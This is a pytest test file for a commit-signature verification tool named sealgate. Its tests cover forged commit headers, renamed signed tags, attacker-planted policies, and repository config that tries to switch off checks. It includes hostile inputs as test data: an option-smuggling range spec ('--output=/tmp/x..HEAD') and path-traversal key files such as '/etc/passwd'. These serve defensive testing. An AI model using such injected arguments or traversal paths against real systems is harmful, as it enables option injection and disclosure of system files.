    "bad-tree-id": (lambda h: h.replace(b"tree ", b"tree  ", 1), "bad tree id"),
    "nul": (lambda h: h.replace(b"\nauthor", b"\0\nauthor"), "NUL byte in the header"),
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(WALKABLE))
def test_commit_objects_git_would_read_differently_are_malformed(
    repo: Repo, people: dict[str, SshUser], tmp_path: Path, case: str
) -> None:
    """Signed by an allowed key, so only the strict parse stands between them and a pass."""
    edit, detail = WALKABLE[case]
    repo.write("src/app.txt", "x\n")
    repo.commit_ssh(None, "to be edited")
    header, message = _split(_raw(repo, "HEAD"))
    oid = _store(repo, _signed_object(people["bob"], edit(header), message, tmp_path))
    repo.git("update-ref", "refs/heads/main", oid)
    code, report, _ = _commits(repo)
    assert code == 1
    reason = str(_reasons(report)["to be edited"])
    assert reason.startswith(f"malformed commit object ({detail}"), reason


@pytest.mark.parametrize("case", sorted(WALKABLE | UNREADABLE))
def test_the_commit_parser_refuses_every_hand_edit(repo: Repo, case: str) -> None:
    edit, detail = (WALKABLE | UNREADABLE)[case]
    oid = repo.git("rev-parse", "HEAD")
    header, message = _split(_raw(repo, oid))
    with pytest.raises(MalformedObjectError) as refused:
        parse_commit(oid, edit(header) + b"\n" + message)
    assert refused.value.message.startswith(f"malformed commit object ({detail}")
    assert refused.value.exit_code == 1
    assert parse_commit(oid, header + b"\n" + message).tree == repo.git("rev-parse", "HEAD^{tree}")


@pytest.mark.parametrize("case", sorted(UNREADABLE))
def test_a_ref_to_a_commit_git_cannot_read_never_passes(
    repo: Repo, people: dict[str, SshUser], tmp_path: Path, case: str
) -> None:
    """Written straight into the ref file (update-ref refuses it): a usage error, not a pass."""
    edit, _ = UNREADABLE[case]
    header, message = _split(_raw(repo, "HEAD"))
    oid = _store(repo, _signed_object(people["bob"], edit(header), message, tmp_path))
    (repo.path / ".git" / "refs" / "heads" / "main").write_text(oid + "\n")
    code, _, stderr = _commits(repo)
    assert code == 2
    assert f"'HEAD' does not resolve to a commit in {repo.path}" in stderr


def test_a_signature_header_moved_between_tree_and_parent_is_malformed(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    """The signature still covers the same payload, but git would now see no parents."""
    repo.write("src/app.txt", "x\n")
    repo.commit_ssh(people["bob"], "reordered")
    raw = _raw(repo, "HEAD")
    header, _, message = raw.partition(b"\n\n")
    lines = header.split(b"\n")
    start = next(i for i, line in enumerate(lines) if line.startswith(b"gpgsig "))
    end = start + 1
    while end < len(lines) and lines[end].startswith(b" "):
        end += 1
    moved = [lines[0], *lines[start:end], *lines[1:start], *lines[end:]]
    oid = _store(repo, b"\n".join(moved) + b"\n\n" + message)
    repo.git("update-ref", "refs/heads/main", oid)
    code, report, _ = _commits(repo)
    assert code == 1
    assert _reasons(report)["reordered"] == (
        "malformed commit object (`author` must follow the parents)"
    )


def test_a_sha256_signature_header_in_a_sha1_repository_is_unsigned(
    repo: Repo, people: dict[str, SshUser], tmp_path: Path
) -> None:
    repo.write("src/app.txt", "x\n")
    repo.commit_ssh(people["bob"], "other format only")
    raw = _raw(repo, "HEAD")
    oid = _store(repo, raw.replace(b"\ngpgsig ", b"\ngpgsig-sha256 ", 1))
    repo.git("update-ref", "refs/heads/main", oid)
    code, report, _ = _commits(repo)
    assert code == 1
    assert _reasons(report)["other format only"] == "unsigned"


def test_with_both_signature_headers_only_this_formats_counts(
    repo: Repo, people: dict[str, SshUser], tmp_path: Path
) -> None:
    repo.write("src/app.txt", "x\n")
    repo.commit_ssh(None, "two signatures")
    header, message = _split(_raw(repo, "HEAD"))
    good = _ssh_sign(people["bob"], header + b"\n" + message, tmp_path)
    bad = _ssh_sign(people["mallory"], header + b"\n" + message, tmp_path)
    other = bad.replace(b"gpgsig ", b"gpgsig-sha256 ", 1)
    # the right header valid, the other by an unknown key: verified (the other is ignored)
    oid = _store(repo, header + good + other + b"\n" + message)
    repo.git("update-ref", "refs/heads/main", oid)
    code, report, _ = _commits(repo)
    assert code == 0, report
    # the right header by an unknown key, the other one valid: refused
    oid = _store(repo, header + bad + good.replace(b"gpgsig ", b"gpgsig-sha256 ", 1) + b"\n"
                 + message)  # fmt: skip
    repo.git("update-ref", "refs/heads/main", oid)
    code, report, _ = _commits(repo)
    assert code == 1
    assert str(_reasons(report)["two signatures"]).startswith("unknown key")
    assert _codes(report)["two signatures"] == "unknown-key"


# --- --tag ------------------------------------------------------------------------------------


def _sign_tag(repo: Repo, user: SshUser, name: str, target: str) -> str:
    repo.git("-c", "gpg.format=ssh", "-c", f"user.signingkey={user.key}",
             "tag", "-s", name, "-m", f"release {name}", target)  # fmt: skip
    return repo.git("rev-parse", f"refs/tags/{name}")


def test_an_old_signed_tag_pushed_under_a_new_name_is_refused(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    repo.write("src/app.txt", "1.0\n")
    repo.commit_ssh(people["alice"], "1.0")
    tag = _sign_tag(repo, people["alice"], "v1.0", "HEAD")
    repo.git("update-ref", "refs/tags/v2.0", tag)
    code, report, _ = _commits(repo, "--policy-rev", "base", "--tag", "v2.0")
    assert code == 1
    assert _reasons(report)["tag v2.0"] == "tag object says 'v1.0', not 'v2.0'"
    assert _codes(report)["tag v2.0"] == "tag-name-mismatch"
    code, report, _ = _commits(repo, "--policy-rev", "base", "--tag", "v1.0")
    assert code == 0, report  # control


def test_a_tag_that_is_not_on_the_range_head_is_refused(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    repo.write("src/app.txt", "1\n")
    old = repo.commit_ssh(people["alice"], "old")
    _sign_tag(repo, people["alice"], "v2.0", old)
    repo.write("src/app.txt", "2\n")
    head = repo.commit_ssh(people["alice"], "head")
    code, report, _ = _commits(repo, "--range", "base..HEAD", "--tag", "v2.0")
    assert code == 1
    assert _reasons(report)["tag v2.0"] == f"tag v2.0 points at {old}, not the range head {head}"
    assert _codes(report)["tag v2.0"] == "tag-not-at-head"
    _sign_tag(repo, people["alice"], "v2.1", head)
    assert _commits(repo, "--range", "base..HEAD", "--tag", "refs/tags/v2.1")[0] == 0


def test_a_tag_of_a_tag_and_a_lightweight_tag_are_refused(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    repo.write("src/app.txt", "1\n")
    repo.commit_ssh(people["alice"], "release")
    _sign_tag(repo, people["alice"], "v1.0", "HEAD")
    _sign_tag(repo, people["alice"], "outer", "v1.0")
    repo.git("tag", "light")
    code, report, _ = _commits(repo, "--policy-rev", "base", "--tag", "outer", "--tag", "light")
    assert code == 1
    reasons = _reasons(report)
    assert reasons["tag outer"] == "tag outer points at a tag, not a commit"
    assert _codes(report) == {"tag outer": "tag-target-not-commit", "tag light": "unsigned"}
    assert (
        reasons["tag light"] == "tag light is a lightweight tag (a commit), not a signed tag object"
    )


# --- ranges -----------------------------------------------------------------------------------


def test_a_base_that_is_not_an_ancestor_checks_every_commit_under_the_bases_policy(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    """`side` removed bob; every commit of HEAD not reachable from `side` is judged under that
    policy, including bob's commit on main."""
    repo.git("checkout", "-q", "-b", "side")
    removal = _remove_bob(repo, people)
    repo.git("tag", "side-base")
    repo.git("checkout", "-q", "main")
    repo.write("src/app.txt", "bob\n")
    repo.commit_ssh(people["bob"], "bob on main")
    code, report, _ = _commits(repo, "--range", "side-base..main")
    assert code == 1
    reasons = _reasons(report)
    assert set(reasons) == {"bob on main"}
    assert str(reasons["bob on main"]).startswith("unknown key")
    assert removal not in str(reasons["bob on main"])
    assert _commits(repo, "--range", "base..main")[0] == 0  # control


@pytest.mark.parametrize(
    "spec",
    ["base...HEAD", "--output=/tmp/x..HEAD", "base..--all", "base..HEAD\n", "base..HE AD",
     "..HEAD", "base.."],
)  # fmt: skip
def test_odd_ranges_are_usage_errors(repo: Repo, spec: str) -> None:
    result = sealgate("commits", "--repo", repo.path, f"--range={spec}")
    assert result.returncode == 2, result.stdout + result.stderr
    assert "[bad-range]" in result.stderr and "use BASE..HEAD" in result.stderr
    assert parse_range("base..HEAD") == ("base", "HEAD")  # control


# --- the default base of `sealgate run` -------------------------------------------------------


def _pusher_history(repo: Repo, people: dict[str, SshUser]) -> str:
    """mallory (no key in the policy) pushes an unsigned commit adding her key, signs a tag
    on it with that key, moves a lightweight tag, and adds one more commit."""
    repo.write(".sealgate/policy.yml", _policy([
        ("alice", ["developer", "policy-admin", "release-manager"], people["alice"].public_line),
        ("mallory", ["developer", "policy-admin"], people["mallory"].public_line),
    ]))  # fmt: skip
    planted = repo.commit_ssh(None, "mallory adds herself")
    _sign_tag(repo, people["mallory"], "v9.9", planted)
    repo.git("tag", "-f", "base", planted)
    repo.write("src/app.txt", "backdoor\n")
    repo.commit_ssh(people["mallory"], "mallory's payload")
    return planted


def test_default_base_is_never_a_lightweight_or_pusher_signed_tag(
    repo: Repo, people: dict[str, SshUser], tmp_path: Path
) -> None:
    _pusher_history(repo, people)
    with pytest.raises(SealgateError) as refused:
        default_range(repo.path, env={})
    assert refused.value.exit_code == 2
    assert refused.value.message == NO_TRUSTED_BASE
    # with the fixed policy, mallory's tag does not verify; none else exists: still refused
    policy = tmp_path / "policy.yml"
    policy.write_text(_base_policy(people))
    from sealgate.options import policy_file

    fixed = policy_file(policy)
    with pytest.raises(SealgateError, match="no trusted base"):
        default_range(repo.path, policy=fixed, env={})


def test_default_base_is_the_newest_tag_signed_under_the_fixed_policy(
    repo: Repo, people: dict[str, SshUser], tmp_path: Path
) -> None:
    _sign_tag(repo, people["alice"], "v1.0", "base")
    first = repo.git("rev-parse", "base")
    planted = _pusher_history(repo, people)
    renamed = repo.git("rev-parse", "refs/tags/v1.0")
    repo.git("update-ref", "refs/tags/v9.8", renamed)  # an old signed tag under a new name
    policy = tmp_path / "policy.yml"
    policy.write_text(_base_policy(people))
    from sealgate.options import policy_file

    span, why = default_range(repo.path, policy=policy_file(policy), env={})
    assert span == f"{first}..HEAD" and why == f"signed tag v1.0, verified under {policy}"
    result = sealgate("commits", "--repo", repo.path, "--range", span, "--policy", policy,
                      "--json", "--no-cache")  # fmt: skip
    assert result.returncode == 1
    assert planted in result.stdout


def test_default_base_is_the_merge_base_with_the_protected_branch_not_a_shadowing_tag(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    base = repo.git("rev-parse", "base")
    repo.git("update-ref", "refs/remotes/origin/main", base)
    repo.git("checkout", "-q", "-b", "pr")
    planted = _pusher_history(repo, people)
    repo.git("tag", "origin/main", planted)  # pushed by mallory: git's own lookup prefers it
    assert repo.git("rev-parse", "origin/main^{commit}") == planted
    span, why = default_range(repo.path, env={"GITHUB_BASE_REF": "main"})
    assert span == f"{base}..HEAD"
    assert why == "merge base with refs/remotes/origin/main ($GITHUB_BASE_REF)"
    span, why = default_range(repo.path, base_branch="origin/main", env={})
    assert span == f"{base}..HEAD" and "--base-branch" in why
    span, _ = default_range(repo.path, env={"CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main"})
    assert span == f"{base}..HEAD"
    # on the default branch itself there is no merge base below HEAD: refused
    repo.git("update-ref", "refs/remotes/origin/main", "HEAD")
    with pytest.raises(SealgateError, match="no trusted base"):
        default_range(repo.path, env={"CI_DEFAULT_BRANCH": "main"})
    with pytest.raises(SealgateError, match="refs/remotes/origin/gone"):
        default_range(repo.path, env={"GITHUB_BASE_REF": "gone"})


def test_default_base_is_not_computed_through_grafts(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    """A graft could make HEAD's history skip commits on the way to the protected branch."""
    base = repo.git("rev-parse", "base")
    repo.git("update-ref", "refs/remotes/origin/main", base)
    repo.git("checkout", "-q", "-b", "pr")
    head = repo.commit_ssh(people["bob"], "bob")
    graft = repo.path / ".git" / "info" / "grafts"
    graft.parent.mkdir(exist_ok=True)
    graft.write_text(f"{head}\n")
    with pytest.raises(InputError, match=r"\.git/info/grafts rewrites history; remove it"):
        default_range(repo.path, env={"GITHUB_BASE_REF": "main"})
    graft.unlink()
    assert default_range(repo.path, env={"GITHUB_BASE_REF": "main"})[0] == f"{base}..HEAD"


@pytest.mark.parametrize("setting", ["range", "policy", "base_branch", "base-branch"])
def test_the_range_and_policy_cannot_come_from_the_sealgate_yml_under_test(
    repo: Repo, setting: str
) -> None:
    repo.write("sealgate.yml", f"{setting}: HEAD~1..HEAD\n")
    with pytest.raises(SealgateError, match="cannot be set in this file") as refused:
        resolve_config({}, {}, repo=repo.path)
    assert refused.value.exit_code == 2


@pytest.mark.parametrize(
    "line", ["no_commits: true", "verify_commits: false", "no-tree: yes", "check_tree: off"]
)
def test_the_sealgate_yml_under_test_cannot_switch_off_the_source_proofs(
    repo: Repo, line: str
) -> None:
    repo.write("sealgate.yml", line + "\n")
    with pytest.raises(SealgateError, match="the commits under test cannot switch off the") as no:
        resolve_config({}, {}, repo=repo.path)
    assert no.value.exit_code == 2
    repo.write("sealgate.yml", "")  # the operator still can, with a flag or the environment
    off = {"SEALGATE_VERIFY_COMMITS": "false", "SEALGATE_CHECK_TREE": "false"}
    config = resolve_config({}, off, repo=repo.path)
    assert config["verify_commits"] is False and config["check_tree"] is False


@pytest.mark.parametrize(
    "line",
    [
        "trust_roots: .sealgate/my-root.pem",  # a root of the pusher's, certifying the HSM key
        "tsa_roots: .sealgate/my-tsa-root.pem",
        "key: pkcs11:token=release;object=release-key",  # another key on the same token
        "attest_key: pkcs11:token=release;object=release-key",
    ],
)
def test_the_sealgate_yml_under_test_cannot_choose_the_key_or_the_trust(
    repo: Repo, line: str
) -> None:
    """Anyone can certify a public key under a root of their own: a file the pusher writes
    must not decide what the verify stage trusts, nor which key on the token signs."""
    repo.write("sealgate.yml", line + "\n")
    with pytest.raises(SealgateError, match="cannot be set in this file") as refused:
        resolve_config({}, {}, repo=repo.path)
    assert refused.value.exit_code == 2 and refused.value.code == "setting-not-allowed"


@pytest.mark.parametrize("line", ["no_verify: true", "verify: false", "require_timestamp: no"])
def test_the_sealgate_yml_under_test_cannot_switch_off_the_gate(repo: Repo, line: str) -> None:
    repo.write("sealgate.yml", line + "\n")
    with pytest.raises(SealgateError, match="the commits under test cannot switch off") as no:
        resolve_config({}, {}, repo=repo.path)
    assert no.value.code == "setting-not-allowed"
    repo.write("sealgate.yml", "verify: true\nrequire_timestamp: true\n")  # on is fine
    config = resolve_config({}, {}, repo=repo.path)
    assert config["verify"] is True and config["require_timestamp"] is True


def test_the_sealgate_yml_may_switch_the_source_proofs_on(repo: Repo) -> None:
    repo.write("sealgate.yml", "no_commits: false\ncheck_tree: true\n")
    config = resolve_config({}, {}, repo=repo.path)
    assert config["verify_commits"] is True and config["check_tree"] is True


# --- data read from git and from --policy is capped -------------------------------------------


def test_an_oversized_policy_blob_is_refused_by_its_size(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    repo.write(".sealgate/policy.yml", _base_policy(people) + "#" * (1 << 20) + "\n")
    repo.commit_ssh(people["alice"], "huge policy")
    repo.git("tag", "-f", "base")
    code, _, stderr = _commits(repo)
    assert code == 2
    assert "more than the 1048576 allowed" in stderr and ".sealgate/policy.yml@" in stderr


@pytest.mark.parametrize("key_file", ["../outside.asc", "/etc/passwd", "sub/../../x.asc"])
def test_key_files_outside_the_policy_folder_are_refused(
    repo: Repo, people: dict[str, SshUser], tmp_path: Path, key_file: str
) -> None:
    folder = tmp_path / "policies"
    folder.mkdir()
    (tmp_path / "outside.asc").write_text("not a key\n")
    policy = folder / "policy.yml"
    policy.write_text(_base_policy(people).replace(
        '  - name: bob', f'  - name: carol\n    openpgp: ["{key_file}"]\n  - name: bob'))  # fmt: skip
    code, _, stderr = _commits(repo, "--policy", policy)
    assert code == 2
    assert "outside the policy's folder" in stderr
    repo.write(".sealgate/policy.yml", policy.read_text())
    repo.commit_ssh(people["alice"], "policy naming a key outside .sealgate")
    repo.git("tag", "-f", "base")
    code, _, stderr = _commits(repo)
    assert code == 2
    assert "is outside .sealgate/" in stderr


@pytest.mark.parametrize("kind", ["fifo", "device"])
def test_a_policy_that_is_not_a_regular_file_is_refused_at_once(
    repo: Repo, tmp_path: Path, kind: str
) -> None:
    path = Path("/dev/zero") if kind == "device" else tmp_path / "policy.fifo"
    if kind == "fifo":
        os.mkfifo(path)
    result = subprocess.run(
        [sys.executable, "-m", "sealgate", "commits", "--repo", str(repo.path), "--range",
         "base..HEAD", "--policy", str(path)],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert result.returncode == 2
    assert f"--policy {path}: not a regular file" in result.stderr


def test_reading_an_object_over_the_limit_leaves_the_reader_in_step(repo: Repo) -> None:
    blob = repo.git("rev-parse", "base:src/app.txt")
    with ObjectReader(repo.path) as reader:
        with pytest.raises(InputError, match="more than the 4 allowed"):
            reader.read(blob, limit=4, what="blob")
        assert reader.read(blob) == ("blob", b"the application\n")


def test_an_empty_range_proves_nothing_and_is_not_a_pass(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    """BASE already containing HEAD (a mistyped or moved range) gives exit 2, never "0 verified"."""
    repo.write("src/app.txt", "more\n")
    repo.commit_ssh(people["alice"], "alice")
    for spec in ("HEAD..HEAD", "HEAD..base"):
        code, _, stderr = _commits(repo, "--range", spec)
        assert code == 2, stderr
        assert "holds no commits: nothing to prove" in stderr
        assert "[empty-range]" in stderr
    assert _commits(repo, "--range", "base..HEAD")[0] == 0  # control
